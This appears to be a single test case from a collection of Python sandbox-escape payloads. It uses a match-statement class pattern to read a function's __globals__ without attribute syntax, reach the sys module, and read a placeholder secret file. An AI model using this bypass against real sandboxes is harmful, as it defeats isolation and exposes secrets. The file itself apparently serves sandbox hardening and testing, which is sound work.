# attack: a class pattern reads an attribute without a dot
# family: match
import enum
match enum.unique:
    case object(__globals__={"sys": sys}):
        print("REACHED", sys)
        print(sys.modules["io"].open("$SECRET_FILE").read())
